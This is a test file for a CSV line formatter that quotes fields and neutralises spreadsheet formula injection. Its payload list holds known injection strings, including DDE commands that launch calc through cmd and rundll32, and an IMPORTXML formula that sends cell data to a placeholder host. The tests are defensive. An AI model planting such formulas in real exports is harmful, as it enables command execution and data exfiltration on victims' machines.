import fc from "fast-check";
import { formatCsvLine, unescapeFormula } from "@/lib/domain/kit/csv";

test("quotes texts but not numbers, leaves null empty, and ends lines by RFC 4180", () => {
  expect(formatCsvLine(["a", 1, null, 'say "hi"\nand, bye'])).toBe('"a",1,,"say ""hi""\nand, bye"\r\n');
});

test.each(["=1+1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "\0=1", "＝1", "＋1", "－1", "＠a", "'=1", "''-1"])(
  "%j is no formula for a spreadsheet",
  (text) => {
    expect(formatCsvLine([text])).toBe(`"'${text}"\r\n`);
  },
);

test.each(["->", "=>", "<->"])(
  "the marker %s of a synonym file has nothing to execute and is written as it is",
  (text) => {
    expect(formatCsvLine([text])).toBe(`"${text}"\r\n`);
    expect(unescapeFormula(`'${text}`)).toBe(text.startsWith("<") ? `'${text}` : text);
  },
);

test.each(["->A1", "=>1", "-", "=", "'->", "->\n"])("%j is more than a marker, so it is guarded", (text) => {
  expect(formatCsvLine([text])).toBe(`"'${text}"\r\n`);
});

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"];
const FORMULAS = [
  ...["1+1", "A1", "SUM(A1:A9)", "cmd|'/C calc'!A0", 'DDE("cmd";"/C calc";"!A0")A0', 'HYPERLINK("http://a","b")'],
  ...[
    'IMPORTXML(CONCAT("http://a/?v=",A1),"//a")',
    "WEBSERVICE(A1)",
    "2+5+cmd|' /C calc'!A0",
    "10+20+cmd|' /C calc'!A0",
  ],
  ...[
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'IMPORTDATA("http://a")',
    "NOW()",
    "INDIRECT(A1)",
    "x",
    "",
    " ",
    "1",
    "1,5",
  ],
  ...[
    "-1",
    "+1",
    "=1",
    "@SUM(1)",
    '"',
    '""',
    "'",
    "''",
    "\n=1",
    "\r\n=1",
    "\t=1",
    ";=1",
    ",=1",
    "|=1",
    "(1)",
    "{1}",
    "[A]",
  ],
  ...["https://a/", "žluť", "🙂", "A1&B1", "A1%", "A:A", "1E9", "TRUE", "#REF!"],
];

test("none of 500 payloads begins a formula", () => {
  const payloads = TRIGGERS.flatMap((trigger) => FORMULAS.map((formula) => trigger + formula));
  expect(payloads.length).toBeGreaterThan(500);
  for (const payload of payloads) expect(formatCsvLine([payload])).toMatch(/^"'/);
  for (const payload of payloads) expect(formatCsvLine([`'${payload}`])).toMatch(/^"''/);
});

test("round-trips any text without the quotes and the ' before a formula", () => {
  fc.assert(
    fc.property(
      fc.oneof(fc.string({ unit: "grapheme" }), fc.string({ unit: fc.constantFrom(..."'-=<>a") })),
      (text) => {
        const field = formatCsvLine([text]).slice(1, -3).replaceAll('""', '"');
        expect(unescapeFormula(field)).toBe(text);
      },
    ),
    { numRuns: 2000 },
  );
});
